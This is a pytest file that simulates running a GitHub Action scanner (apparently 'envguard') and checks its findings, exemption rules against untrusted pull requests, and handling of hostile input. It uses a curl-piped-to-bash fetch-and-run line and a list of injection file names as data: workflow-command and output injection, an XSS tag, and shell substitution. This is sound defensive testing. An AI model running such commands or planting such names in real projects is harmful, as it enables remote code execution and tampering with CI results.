"""The Action's steps, run one after the other as GitHub runs those of a composite action.

Expressions are filled in, `run:` gets bash and its `env:`, outputs are read back from the files
that the steps write. Only `actions/setup-python` is played: it would have set up this Python.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
ACTION = yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))
BAD = "curl -s https://example.org/i.sh | bash\n"
IGNORE = "# envguard: ignore[CMD006] looked at\n"
STALE = ROOT / "fixtures" / "projects" / "paper-stale"

if shutil.which("bash") is None or shutil.which("git") is None:
    pytest.skip("bash or git is not here: the Action is not run", allow_module_level=True)


class Run(NamedTuple):
    """What a run of the Action left behind."""

    code: int
    outputs: dict[str, str]
    summary: str
    log: str


def filled(value: str, inputs: dict[str, str], steps: dict[str, dict[str, str]]) -> str:
    """A value with its expressions filled in; an expression of another kind is an error here."""

    def of(found: re.Match[str]) -> str:
        parts = found.group(1).strip().split(".")
        if parts[0] == "inputs" and len(parts) == 2:
            return inputs[parts[1]]
        if parts[0] == "steps" and parts[2] == "outputs":
            return steps.get(parts[1], {}).get(parts[3], "")
        raise AssertionError(f"this runner does not know {found.group()}")

    return re.sub(r"\$\{\{(.*?)\}\}", of, value)


def read_outputs(path: Path) -> dict[str, str]:
    """A file of outputs, as the runner reads it."""
    rows = [line.partition("=") for line in path.read_text(encoding="utf-8").splitlines()]
    assert all(name and equals and "<<" not in name for name, equals, _ in rows)
    return {name: value for name, _, value in rows}


class Runner:
    """A machine that runs the Action on a checkout. What is installed is kept for all runs."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.installed: dict[str, str] = {}
        self.count = 0

    def run(self, checkout: Path, event: dict[str, Any] | None = None, **inputs: str) -> Run:
        self.count += 1
        here = self.folder / str(self.count)
        here.mkdir()
        given = {name: str(one.get("default", "")) for name, one in ACTION["inputs"].items()}
        given.update({name.replace("_", "-"): value for name, value in inputs.items()})
        (here / "event.json").write_text(json.dumps(event or {}))
        steps: dict[str, dict[str, str]] = {}
        summary, log, code = "", "", 0
        for step in ACTION["runs"]["steps"]:
            if "uses" in step:
                assert re.fullmatch(r"actions/setup-python@[0-9a-f]{40}", step["uses"])
                steps[step["id"]] = {"python-path": sys.executable}
            elif step["id"] == "install" and self.installed:
                steps[step["id"]] = self.installed
            elif code == 0:
                assert step["shell"] == "bash"
                files = {name: here / f"{step['id']}-{name}" for name in ("output", "summary")}
                for path in files.values():
                    path.touch()
                environment = {
                    **{k: v for k, v in os.environ.items() if not k.startswith("PYTHON")},
                    **{k: filled(v, given, steps) for k, v in step.get("env", {}).items()},
                    "GITHUB_ACTIONS": "true", "GITHUB_ACTION_PATH": str(ROOT),
                    "GITHUB_OUTPUT": str(files["output"]), "RUNNER_TEMP": str(here),
                    "GITHUB_STEP_SUMMARY": str(files["summary"]),
                    "GITHUB_WORKSPACE": str(checkout),
                    "GITHUB_EVENT_NAME": "pull_request" if event else "push",
                    "GITHUB_EVENT_PATH": str(here / "event.json"),
                    "GITHUB_REF": "refs/pull/7/merge" if event else "refs/heads/main",
                    "GITHUB_SHA": (event or {}).get("merge") or git(checkout, "rev-parse", "HEAD"),
                }  # fmt: skip
                if step["id"] == "install":
                    environment["RUNNER_TEMP"] = str(self.folder)
                done = subprocess.run(
                    ["bash", "--noprofile", "--norc", "-e", "-o", "pipefail", "-c", step["run"]],
                    cwd=checkout, env=environment, capture_output=True, check=False,
                )  # fmt: skip
                code = done.returncode
                log += done.stdout.decode("utf-8") + done.stderr.decode("utf-8")
                steps[step["id"]] = read_outputs(files["output"])
                summary += files["summary"].read_text(encoding="utf-8")
                if step["id"] == "install":
                    if code and not os.environ.get("CI"):
                        pytest.skip(f"the Action cannot be installed here: {log[-300:]}")
                    self.installed = steps["install"]
        outputs = {k: filled(v["value"], given, steps) for k, v in ACTION["outputs"].items()}
        return Run(code, outputs, summary, log)


@pytest.fixture(scope="module")
def runner(tmp_path_factory: pytest.TempPathFactory) -> Runner:
    return Runner(tmp_path_factory.mktemp("runner"))


def git(folder: Path, *words: str) -> str:
    name = ["-c", "user.name=a", "-c", "user.email=a@example.org", "-c", "commit.gpgsign=false"]
    done = subprocess.run(
        ["git", *name, *words], cwd=folder, capture_output=True, text=True, check=True
    )
    return done.stdout.strip()


def write(folder: Path, files: dict[str, str]) -> None:
    for name, content in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(content)


def commit(folder: Path, files: dict[str, str]) -> str:
    write(folder, files)
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "--allow-empty", "-m", "a")
    return git(folder, "rev-parse", "HEAD")


def pull_request(
    folder: Path, base: dict[str, str], head: dict[str, str], depth: int = 2
) -> tuple[Path, dict[str, Any]]:
    """What actions/checkout leaves of a pull request: the merge, so many commits deep."""
    origin = folder / "origin"
    origin.mkdir()
    git(origin, "init", "-q", "-b", "main")
    sha = commit(origin, base)
    git(origin, "checkout", "-q", "-b", "stranger")
    commit(origin, head)
    git(origin, "checkout", "-q", "main")
    git(origin, "merge", "-q", "--no-ff", "-m", "merge", "stranger")
    git(folder, "clone", "-q", f"--depth={depth}", origin.as_uri(), "checkout")
    git(origin, "reset", "-q", "--hard", sha)
    merge = git(folder / "checkout", "rev-parse", "HEAD")
    return folder / "checkout", {"pull_request": {"base": {"sha": sha}}, "merge": merge}


def test_a_push_gets_annotations_outputs_a_summary_and_two_files(
    runner: Runner, tmp_path: Path
) -> None:
    git(tmp_path, "init", "-q")
    commit(tmp_path, {"a.sh": BAD, "b.sh": IGNORE + BAD})
    done = runner.run(tmp_path)
    assert done.code == 1
    assert "::error file=a.sh,line=1," in done.log
    assert "CMD006" in done.summary
    assert {k: v for k, v in done.outputs.items() if not k.endswith("-file")} == {
        "exit-code": "1", "errors": "1", "warnings": "0", "infos": "0", "unknowns": "0",
        "ignored": "1", "files": "2", "lock-exit-code": "",
    }  # fmt: skip
    sarif = json.loads(Path(done.outputs["sarif-file"]).read_text())
    results = sarif["runs"][0]["results"]
    assert [one["ruleId"] for one in results] == ["CMD006", "CMD006"]
    assert [one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for one in results
            ] == ["a.sh", "b.sh"]  # fmt: skip
    report = json.loads(Path(done.outputs["json-file"]).read_text())
    assert report["summary"]["error"] == 1
    assert git(tmp_path, "status", "--porcelain") == ""


def test_a_clean_project_passes(runner: Runner, tmp_path: Path) -> None:
    git(tmp_path, "init", "-q")
    commit(tmp_path, {"a.sh": "ls\n"})
    done = runner.run(tmp_path, annotations="false")
    assert (done.code, done.outputs["exit-code"], done.outputs["errors"]) == (0, "0", "0")
    assert "nothing to complain about" in done.summary


@pytest.mark.parametrize("depth", [2, 10])
def test_a_stranger_cannot_exempt_what_he_brings(
    runner: Runner, tmp_path: Path, depth: int
) -> None:
    base = {"a.sh": IGNORE + BAD, "envguard.toml": 'ignore = ["CMD001"]\n'}
    head = {
        "b.sh": IGNORE + BAD, "c/d.sh": BAD, "c/envguard.toml": 'ignore = ["CMD"]\n',
        "envguard.toml": 'exclude = ["*"]\nfail-on = "error"\n',
    }  # fmt: skip
    checkout, event = pull_request(tmp_path, base, head, depth)
    done = runner.run(checkout, event)
    assert done.code == 1
    assert (done.outputs["errors"], done.outputs["ignored"]) == ("2", "1")
    assert "::error file=b.sh,line=2," in done.log
    assert "::error file=c/d.sh,line=1," in done.log
    first = done.summary.splitlines()[2:10]
    assert any("alters the settings" in line and "exclude" in line for line in first)
    assert any("alters the settings of c" in line for line in first)
    assert any("b.sh:1" in line.replace("&#58;", ":") for line in first)
    # the project's own people may decide otherwise
    assert runner.run(checkout, event, trust="change").code == 3


def test_without_the_base_nothing_is_exempt(runner: Runner, tmp_path: Path) -> None:
    checkout, event = pull_request(tmp_path, {"a.sh": IGNORE + BAD}, {"b.sh": "ls\n"}, depth=1)
    done = runner.run(checkout, event)
    assert (done.code, done.outputs["errors"], done.outputs["ignored"]) == (1, "1", "0")
    assert "is not in the checkout, so nothing is exempt" in done.log


def test_a_strangers_own_merge_is_no_base(runner: Runner, tmp_path: Path) -> None:
    checkout, event = pull_request(tmp_path, {"a.sh": "ls\n"}, {"b.sh": IGNORE + BAD}, depth=1)
    # what stands on top is no merge of GitHub's, although it has a first parent
    commit(checkout, {"c.sh": "ls\n"})
    done = runner.run(checkout, event)
    assert (done.code, done.outputs["ignored"]) == (1, "0")


def test_policy_and_baseline_are_the_bases(runner: Runner, tmp_path: Path) -> None:
    policy = {"lab/policy": 'locked = ["ignore"]\n[severity]\nCMD006 = "info"\n'}
    head = {"lab/policy": 'ignore = ["ALL"]\n', "b.sh": BAD}
    accepted = {"lab/accepted": '{"version": 1, "findings": []}\n'}
    checkout, event = pull_request(tmp_path, {"a.sh": BAD, **policy, **accepted}, head)
    done = runner.run(checkout, event, settings="lab/policy", fail_on="info")
    assert (done.code, done.outputs["infos"], done.outputs["ignored"]) == (1, "2", "0")
    assert "lab/policy: this change alters the policy; the base's holds" in done.log
    done = runner.run(checkout, event, baseline="lab/accepted")
    assert (done.code, done.outputs["errors"]) == (1, "2")
    assert "not in the base" not in done.log


def test_a_pull_request_can_be_held_to_its_own_lines(runner: Runner, tmp_path: Path) -> None:
    checkout, event = pull_request(tmp_path, {"a.sh": BAD}, {"b.sh": BAD})
    done = runner.run(checkout, event, changed_since="auto")
    assert (done.code, done.outputs["errors"]) == (1, "1")
    assert "file=b.sh" in done.log
    assert "file=a.sh" not in done.log
    assert "hides 1 of the findings" in done.log
    commit_of_push = runner.run(checkout, None, changed_since="auto")
    assert commit_of_push.outputs["errors"] == "2"


def test_a_stale_lock_fails_where_it_is_asked_for(runner: Runner, tmp_path: Path) -> None:
    git(tmp_path, "init", "-q")
    files = {n: (STALE / n).read_text() for n in ("environment.yml", "conda-lock.yml")}
    commit(tmp_path, files)
    quiet = {"ignore": "ALL", "fail_on": "error"}
    assert runner.run(tmp_path, **quiet).code == 0
    done = runner.run(tmp_path, lock="check", **quiet)
    assert (done.code, done.outputs["exit-code"], done.outputs["lock-exit-code"]) == (1, "1", "1")
    assert "stale" in done.log
    assert "Locks: **not good**" in done.summary


@pytest.mark.parametrize(
    ("inputs", "code"),
    [
        ({"fail_on": "never"}, 2), ({"profile": "x"}, 2), ({"select": "NOPE"}, 2),
        ({"settings": "none.toml"}, 2), ({"baseline": "none.json"}, 2), ({"paths": "none"}, 2),
        ({"sarif_file": "a\nb"}, 2), ({"working_directory": "none"}, 5), ({"paths": "empty"}, 3),
    ],
)  # fmt: skip
def test_outputs_are_there_after_a_failure(
    runner: Runner, tmp_path: Path, inputs: dict[str, str], code: int
) -> None:
    git(tmp_path, "init", "-q")
    commit(tmp_path, {"a.sh": "ls\n"})
    (tmp_path / "empty").mkdir()
    done = runner.run(tmp_path, **inputs)
    assert (done.code, done.outputs["exit-code"]) == (code, str(code))
    assert "Traceback" not in done.log


def test_several_paths_and_codes_are_taken(runner: Runner, tmp_path: Path) -> None:
    git(tmp_path, "init", "-q")
    commit(tmp_path, {"a b.sh": BAD, "c/d.sh": BAD, "e.sh": BAD})
    done = runner.run(tmp_path, paths="a b.sh\nc\n", select="CMD006, ENV")
    assert done.outputs["errors"] == "2"
    inside = runner.run(tmp_path, working_directory="c", sarif_file="out.sarif")
    assert inside.outputs["errors"] == "1"
    assert Path(inside.outputs["sarif-file"]) == tmp_path / "c" / "out.sarif"


def test_modules_and_commands_of_the_checkout_are_not_run(runner: Runner, tmp_path: Path) -> None:
    git(tmp_path, "init", "-q")
    harm = "open('harm', 'w')\n"
    names = ["envguard/__init__.py", "click.py", "yaml.py", "json.py", "sitecustomize.py", "re.py"]
    commit(tmp_path, {"a.sh": "ls\n", **dict.fromkeys(names, harm)})
    done = runner.run(tmp_path)
    assert done.code == 0
    assert not (tmp_path / "harm").exists()


HOSTILE = [
    "a\n::error::b.sh", "::warning::c.sh", "##[add-mask]e.sh", "\x1b[31mred.sh", "%0A::error::d.sh",
    "<img src=x onerror=alert(1)>.sh", "`@everyone` [x](https:evil).sh", "--output=json=x.sh",
    "errors=0\nexit-code=0.sh", "$(touch harm).sh", "EOF\nexit-code=0.sh",
]  # fmt: skip


def test_hostile_names_are_words_and_nothing_else(runner: Runner, tmp_path: Path) -> None:
    names = [
        *HOSTILE, *(f"{name}/envguard.toml" for name in ("::error::f", "g\n::error::h", "<b>")),
    ]  # fmt: skip
    head = {n: 'ignore = ["ALL"]\n' if n.endswith("toml") else IGNORE + BAD for n in names}
    checkout, event = pull_request(tmp_path, {"a.sh": "ls\n"}, head)
    done = runner.run(checkout, event)
    assert done.code == 1
    assert done.outputs["errors"] == str(len(HOSTILE))
    assert done.outputs["exit-code"] == "1"
    commands = [line for line in done.log.splitlines() if line.lstrip().startswith("::")]
    # ours: the worst ten of a level, each about the rule that spoke
    assert len(commands) == 10
    assert all(re.match(r"::error file=[^:,]*,line=2,", line) for line in commands)
    assert all("CMD006" in line for line in commands)
    assert "##[" not in done.log
    assert "\x1b" not in done.log + done.summary
    for markup in ("<img", "<b>", "@everyone", "](https:evil"):
        assert markup not in done.summary
    assert not any(line.startswith("::") for line in done.summary.splitlines())
    assert not (checkout / "harm").exists()
    assert not (checkout / "x.sh").exists()
    sarif = json.loads(Path(done.outputs["sarif-file"]).read_text())
    assert len(sarif["runs"][0]["results"]) == len(HOSTILE)
